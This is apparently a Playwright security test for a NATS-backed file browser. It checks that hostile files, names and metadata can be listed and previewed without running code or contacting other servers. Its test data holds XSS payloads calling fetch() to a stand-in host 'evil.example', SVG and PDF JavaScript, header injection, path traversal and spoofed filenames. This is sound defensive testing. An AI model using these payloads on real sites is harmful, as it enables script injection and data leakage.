import { jetstreamManager } from "@nats-io/jetstream";
import { headers, wsconnect } from "@nats-io/nats-core";
import { FOREIGN_METAS } from "../support/foreign-metas.ts";
import { expect, test } from "./fixtures.ts";
import { FilesPage } from "./files-page.ts";
import { film, pdf, storing } from "./preview-samples.ts";
import { expectUnharmed } from "./unharmed.ts";

const evil = "http://evil.example";
const attack = `top.attacked=1;self.attacked=1;fetch('${evil}/fetched');new Image().src='${evil}/image';alert(1)`;

const hostilePage = `<!doctype html><title>attacked</title><script>${attack}</script><img src="${evil}/a.png" onerror="${attack}">
<link rel="stylesheet" href="${evil}/a.css"><iframe src="${evil}/frame"></iframe><meta http-equiv="refresh" content="0;url=${evil}/">
<form action="${evil}/form"><button>go</button></form><base href="${evil}/">`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${attack}" width="50" height="50">
<script>${attack}</script><image href="${evil}/b.png" width="9" height="9"/><use xlink:href="${evil}/c.svg#x"/>
<style>@import url(${evil}/d.css); rect { fill: url(${evil}/e.svg#y) }</style><rect width="50" height="50"/>
<foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evil}/f"/></foreignObject></svg>`;
const script = pdf("Hello", `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\('${evil}/g'\\);) >>`);
const opening = pdf("Hello", `/OpenAction << /S /URI /URI (${evil}/h) >>`);

/** Malicious contents, with the types that would let them act. */
const ATTACKS: [name: string, type: string, content: string | Buffer][] = [
  ["page.html", "text/html", hostilePage],
  ["page.xhtml", "application/xhtml+xml", hostilePage],
  ["page", "text/html; charset=utf-7", hostilePage],
  ["page.png", "image/png", hostilePage],
  ["page.pdf", "application/pdf", hostilePage],
  ["page.mp4", "video/mp4", hostilePage],
  ["page.txt", "text/plain", hostilePage],
  [
    "page.bin",
    "multipart/x-mixed-replace; boundary=x",
    `--x\r\nContent-Type: text/html\r\n\r\n${hostilePage}\r\n--x--`,
  ],
  ["page.json", "text/html\r\nX-Other: 1", hostilePage],
  ["drawing.svg", "image/svg+xml", drawing],
  ["drawing.xml", "text/xml", drawing],
  ["drawing", "IMAGE/SVG+XML;charset=utf-8", drawing],
  ["drawing.jpg", "", drawing],
  ["script.js", "text/javascript", attack],
  ["script.pdf", "application/pdf", script],
  ["opening.pdf", "application/pdf", opening],
  ["film.html", "video/webm", ""],
  ["a.constructor", "constructor", "text"],
  ["b.proto", "__proto__", "text"],
  ["c.toString", "text/hasOwnProperty", "text"],
  ["sound", "audio/x+xml", drawing],
  ["clip", "video/x+xml", drawing],
  ["letters", "font/x+xml", drawing],
];

/** Malicious names. */
const NAMES = [
  `<img src=x onerror="${attack}">`,
  `"><script>${attack}<` + `/script>`,
  "<!--",
  "javascript:alert(1)",
  "${alert(1)} {{alert(1)}}",
  "__proto__",
  "constructor",
  "..",
  ".",
  "/",
  "../../etc/passwd",
  "a//b///c",
  " ",
  "\n\r\t",
  "\u0000\u0007",
  "invoice\u202egpj.exe",
  "%2e%2e%2f%00?download#x",
  "e\u0301\u{1f4a9}\u200d\ufeff",
  "long ".repeat(400),
  `${"deep/".repeat(60)}end`,
  "AGE-SECRET-KEY-1",
];

/** Barely valid meta messages. `#` is replaced by the name. */
const METAS = [
  ...FOREIGN_METAS.map(({ json }) => json.replace(/"name":"[^"]*"/, '"name":"#"')),
  '{"name":"#","bucket":"b","nuid":"x","size":5,"chunks":1,"digest":"SHA-256=AAAA"}',
  '{"name":"#","bucket":"b","nuid":"x","size":1e21,"chunks":-1}',
  '{"name":"#","bucket":"b","nuid":"x","size":9007199254740991,"chunks":4294967295}',
  '{"name":"#","bucket":"b","nuid":">","size":1,"chunks":1}',
  '{"name":"#","bucket":"b","nuid":"x","headers":{"__proto__":["a"],"content-type":["text/html","image/png"]}}',
  '{"name":"#","bucket":"b","nuid":"x","metadata":{"__proto__":"a","encryption":"age","about":"<script>"}}',
  `{"name":"#","bucket":"b","nuid":"x","description":${JSON.stringify(hostilePage)}}`,
  '{"name":"#","options":{"link":{"bucket":"../x","name":"<b>"}}}',
  '{"name":"#","options":{"link":{"bucket":"b","name":"#"}}}',
  '{"name":["#"],"size":"1"}',
  '{"name":"other"}',
  "[]",
  "null",
  "{",
  "\ufffd\u0000",
];

async function fill(bucket: string): Promise<void> {
  await storing(bucket, async (put) => {
    for (const [name, type, content] of ATTACKS) {
      const body = name === "film.html" ? await film() : content;
      const html = `<b onmouseover="${attack}">bold</b>`;
      const meta = { name, headers: { "Content-Type": [type], [html]: [html] }, metadata: { [html]: html } };
      await put({ ...meta, description: html }, body);
    }
    for (const name of NAMES) await put({ name }, "text");
  });
  const connection = await wsconnect({ servers: process.env["DEMO_NATS_WS_URL"]! });
  const manager = await jetstreamManager(connection);
  for (const [index, json] of METAS.entries()) {
    const name = `meta ${String(index)}`;
    const rollup = headers();
    rollup.set("Nats-Rollup", "sub");
    const token = Buffer.from(name).toString("base64").replaceAll("+", "-").replaceAll("/", "_");
    await manager.jetstream().publish(`$O.${bucket}.M.${token}`, json.replaceAll("#", name), { headers: rollup });
  }
  await connection.close();
}

test("a hostile bucket can be listed and previewed, and nothing in it runs or contacts another server", async ({
  place,
  page,
  calm,
}) => {
  test.setTimeout(240_000);
  // Firefox's viewer reports this for an invalid PDF, for its own styles, and for scripts that would open a dialog.
  calm.expected.push(/resource:|^Object$|InvalidPDF|Missing PDF|ServiceWorker intercepted/);
  const bucket = `${place.bucket}_hostile`;
  place.onEnd(() => place.server.removeBucket(bucket));
  await fill(bucket);
  await page.setViewportSize({ width: 1280, height: 4_000 });
  const files = new FilesPage(page, bucket);
  await files.openReady();
  await expect(files.row("page.html")).toBeVisible();
  await expect(page.getByText(/can't be shown because the server's entr/)).toBeVisible();
  const count = await files.rows.count();
  expect(count).toBeGreaterThan(ATTACKS.length + NAMES.length);
  await expectUnharmed(page, "the list");

  const attacks = new Set(ATTACKS.map(([name]) => `Details of ${name}`));
  const labels = new Set<string>();
  let looked = 0;
  let label = "";
  for (let index = 0; index < count; index++) {
    const row = files.rows.nth(index);
    if ((await row.getByRole("button", { name: /^Open / }).count()) > 0) continue;
    await row.click({ position: { x: 300, y: 20 } });
    if (looked++ === 0) await row.press("Space");
    const drawer = page.getByRole("dialog", { name: /^Details of/ });
    await expect(drawer).not.toHaveAttribute("aria-label", label);
    label = (await drawer.getAttribute("aria-label")) ?? "";
    labels.add(label);
    // Its preview begins a moment later. What ran leaves a mark, so the others need not be waited for one by one.
    if (attacks.has(label)) await page.waitForTimeout(350);
    await expectUnharmed(page, label);
  }
  await page.waitForTimeout(350);
  await expectUnharmed(page, "after all");
  expect(labels.size, "each file had its turn").toBe(looked);
  expect([...attacks].filter((label) => !labels.has(label))).toEqual([]);
  expect(looked).toBeGreaterThan(ATTACKS.length + NAMES.length - 4);
  expect(await files.rows.count(), "the list is whole").toBe(count);
});

test("the pages of links to hostile files show them without running anything", async ({ place, page, calm }) => {
  test.setTimeout(180_000);
  calm.expected.push(/resource:|^Object$|InvalidPDF|Missing PDF|ServiceWorker intercepted/);
  const bucket = `${place.bucket}_hostile`;
  place.onEnd(() => place.server.removeBucket(bucket));
  await fill(bucket);
  // Only some of them, because each opens the page again, which takes a second.
  const some = <T>(items: readonly T[]): T[] => items.filter((_, index) => index % 12 === 0);
  const metas = METAS.map((_, index) => `meta ${String(index)}`);
  const names = [...ATTACKS.map(([name]) => name), ...some(NAMES), ...some(metas)];
  await page.goto("./#/share/none/none");
  for (const name of names) {
    // As the app writes it: a trailing slash belongs to the name.
    const path = encodeURIComponent(name);
    await page.evaluate((hash) => (location.hash = hash), `#/share/${bucket}/${path}`);
    await expect
      .poll(() => page.evaluate(() => decodeURIComponent(location.hash)).catch(() => ""), { timeout: 15_000 })
      .toContain(bucket);
    await expect(page.getByRole("heading").first()).toBeVisible({ timeout: 15_000 });
    await page.waitForTimeout(350);
    await expectUnharmed(page, name);
  }
});
